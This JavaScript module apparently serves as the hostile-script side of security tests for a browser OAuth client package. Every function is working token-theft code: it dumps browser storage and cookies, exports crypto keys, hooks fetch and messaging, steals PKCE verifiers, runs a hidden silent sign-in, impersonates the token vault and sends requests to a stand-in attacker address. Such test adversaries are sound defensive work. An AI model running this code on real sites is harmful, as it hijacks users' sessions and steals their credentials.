// What a hostile script does that runs in the page of an application: each function is run there, and gives the texts
// that it got hold of. It knows the package as well as its authors do.

/** Reads, once, what a script can read. `given` has the client's options and the addresses of package and attacker. */
export async function readEverything({ options, root, attacker }) {
  const loot = [];
  const take = (value) => loot.push(typeof value === "string" ? value : (JSON.stringify(value) ?? String(value)));
  const attempt = async (work) => {
    try {
      take(await work());
    } catch (error) {
      take(String(error));
    }
  };
  for (const storage of [localStorage, sessionStorage]) take({ ...storage });
  take([document.cookie, location.href, history.state, performance.getEntries().map(({ name }) => name)]);
  for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) take(request.url);
  // Every database, and what its keys open.
  const answered = (request) => new Promise((resolve, reject) => Object.assign(request, { onsuccess: () => resolve(request.result), onerror: () => reject(request.error) }));
  const { readSealed } = await import(`${root}/src/browser/storage/sealed_entries.js`);
  for (const { name } of await indexedDB.databases()) {
    const database = await answered(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      const objects = database.transaction(store).objectStore(store);
      for (const [key, value] of await Promise.all([answered(objects.getAllKeys()), answered(objects.getAll())]).then(([keys, values]) => keys.map((each, index) => [each, values[index]]))) {
        if (value instanceof CryptoKey) await attempt(() => crypto.subtle.exportKey("raw", value).then((raw) => [...new Uint8Array(raw)]));
        else if (value.sealed) await attempt(() => readSealed(key, key));
        else take(value);
      }
    }
    database.close();
  }
  // The client of the application, and one of the script's own with the same options.
  await attempt(() => auth.accessToken());
  await attempt(() => auth.session());
  await attempt(async () => (await (await import(`${root}/browser.js`)).createClient(options)).accessToken());
  // A vault that may send to the attacker's server, and the same vault sending there.
  if (options.storage === "vault") {
    const { createClient } = await import(`${root}/browser.js`);
    await attempt(async () => (await (await createClient({ ...options, api: [...options.api, attacker] })).fetch(`${attacker}/loot`)).text());
    await attempt(async () => (await auth.fetch(`${attacker}/loot`)).text());
  }
  return loot;
}

/** Stays in the page and notes whatever passes through what a script can replace. `stolen()` gives what it noted. */
export function stay() {
  const loot = [];
  const note = (...values) => {
    for (const value of values) {
      try {
        if (value instanceof Request) loot.push(JSON.stringify([value.url, ...value.headers]));
        else if (value instanceof Headers) loot.push(JSON.stringify([...value]));
        else if (value?.headers instanceof Headers) loot.push(JSON.stringify([...value.headers]));
        loot.push(typeof value === "string" ? value : JSON.stringify(value));
      } catch {
        loot.push(String(value));
      }
    }
  };
  const replace = (owner, name) => {
    const original = owner?.[name];
    if (typeof original !== "function") return;
    owner[name] = function replaced(...given) {
      note(...given);
      const result = Reflect.apply(original, this, given);
      Promise.resolve(result).then(note, () => {});
      return result;
    };
  };
  replace(globalThis, "fetch");
  replace(globalThis, "structuredClone");
  for (const place of [MessagePort, Worker, BroadcastChannel, ServiceWorker]) replace(place.prototype, "postMessage");
  for (const name of ["json", "text", "arrayBuffer"]) replace(Response.prototype, name);
  for (const name of ["set", "append"]) replace(Headers.prototype, name);
  for (const name of ["parse", "stringify"]) {
    const original = JSON[name];
    JSON[name] = (...given) => {
      const result = original(...given);
      loot.push(name === "parse" ? String(given[0]) : result);
      return result;
    };
  }
  for (const name of ["setItem", "getItem"]) replace(Storage.prototype, name);
  for (const name of ["put", "add"]) replace(IDBObjectStore.prototype, name);
  replace(crypto.subtle, "encrypt");
  const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
  Object.defineProperty(MessageEvent.prototype, "data", {
    ...data,
    get() {
      const value = data.get.call(this);
      note(value);
      return value;
    },
  });
  const decode = TextDecoder.prototype.decode;
  TextDecoder.prototype.decode = function decoded(...given) {
    const text = decode.apply(this, given);
    loot.push(text);
    return text;
  };
  globalThis.stolen = () => loot;
}

/** At the callback, before the client: takes the code from the address and the verifier from where it waits. */
export async function takeSignIn({ options, root }) {
  const { readSealed } = await import(`${root}/src/browser/storage/sealed_entries.js`);
  const { vaultName } = await import(`${root}/src/browser/vault/vault_name.js`);
  const { compiledOptions } = await import(`${root}/src/browser/public/compiled_options.js`);
  const found = Object.entries({ ...sessionStorage }).filter(([key]) => key.startsWith("grantway:transaction:")).map(([, text]) => JSON.parse(text));
  const answered = (request) => new Promise((resolve, reject) => Object.assign(request, { onsuccess: () => resolve(request.result), onerror: () => reject(request.error) }));
  if ((await indexedDB.databases()).length > 0) {
    const { worker, serviceWorker, storage, ...rest } = options;
    const owner = await vaultName(compiledOptions(rest));
    const database = await answered(indexedDB.open("grantway"));
    const names = await answered(database.transaction("entries").objectStore("entries").getAllKeys());
    database.close();
    for (const name of names) found.push(await readSealed(name, owner));
  }
  const verifier = /"code_verifier":"([^"]+)"/.exec(JSON.stringify(found))?.[1];
  if (!verifier) return [];
  const code = new URL(location.href).searchParams.get("code");
  const body = new URLSearchParams({ grant_type: "authorization_code", code, code_verifier: verifier, client_id: options.client_id, redirect_uri: options.redirect_uri });
  return [await (await fetch(`${options.issuer}/token`, { method: "POST", body })).text()];
}

/** Begins a sign-in of its own in a hidden frame, without a question to the person. */
export async function hiddenFlow({ options }) {
  const base64url = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=/g, "");
  const verifier = base64url(crypto.getRandomValues(new Uint8Array(32)));
  const challenge = base64url(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier)));
  const url = new URL(`${options.issuer}/authorize`);
  const parameters = { response_type: "code", client_id: options.client_id, redirect_uri: options.redirect_uri, scope: options.scope, state: "hostile", prompt: "none", code_challenge: challenge, code_challenge_method: "S256" };
  for (const [name, value] of Object.entries(parameters)) url.searchParams.set(name, value);
  const frame = Object.assign(document.createElement("iframe"), { src: url.href, hidden: true });
  const code = await new Promise((resolve) => {
    frame.onload = () => {
      try {
        resolve(new URL(frame.contentWindow.location.href).searchParams.get("code"));
      } catch {
        // Still at the server, which is another origin.
      }
    };
    document.body.append(frame);
  });
  frame.remove();
  if (code === null) return [];
  const body = new URLSearchParams({ grant_type: "authorization_code", code, code_verifier: verifier, client_id: options.client_id, redirect_uri: options.redirect_uri });
  return [await (await fetch(`${options.issuer}/token`, { method: "POST", body })).text()];
}

/** Reads the API as the person who is signed in: by the application's client, and by one of its own. */
export async function proxy({ options, root }) {
  const address = `${options.issuer}/userinfo`;
  const own = await (await import(`${root}/browser.js`)).createClient(options);
  return Promise.all([auth, own].map((client) => client.fetch(address).then((answer) => answer.text(), String)));
}

/** Before the client: a SharedWorker of its own that plays the vault, with a sign-in whose verifier it knows. */
export function playVault({ options }) {
  const base64url = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=/g, "");
  const loot = [];
  globalThis.stolen = () => loot;
  const play = {
    async authorize() {
      const verifier = base64url(crypto.getRandomValues(new Uint8Array(32)));
      localStorage.setItem("verifier", verifier);
      const challenge = base64url(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier)));
      const parameters = { response_type: "code", client_id: options.client_id, redirect_uri: options.redirect_uri, scope: "openid", state: "hostile", code_challenge: challenge, code_challenge_method: "S256" };
      return `${options.issuer}/authorize?${new URLSearchParams(parameters)}`;
    },
    withoutResponse: ({ href }) => (href.includes("code=") ? href.split("?")[0] : null),
    complete: () => undefined,
    async handleCallback({ href }) {
      const body = new URLSearchParams({ grant_type: "authorization_code", code: new URL(href).searchParams.get("code"), code_verifier: localStorage.getItem("verifier"), client_id: options.client_id, redirect_uri: options.redirect_uri });
      loot.push(await (await fetch(`${options.issuer}/token`, { method: "POST", body })).text());
      return {};
    },
    session: () => null,
  };
  globalThis.SharedWorker = class {
    constructor() {
      const { port1, port2 } = new MessageChannel();
      this.port = port1;
      port2.onmessage = async ({ data: { hello, id, call, args } }) => {
        if (hello) port2.postMessage({ welcome: { lock: "nobody" } });
        else if (play[call]) port2.postMessage({ id, value: await play[call](args) });
      };
      navigator.locks.request("nobody", () => new Promise(() => {}));
    }
    addEventListener() {}
  };
}
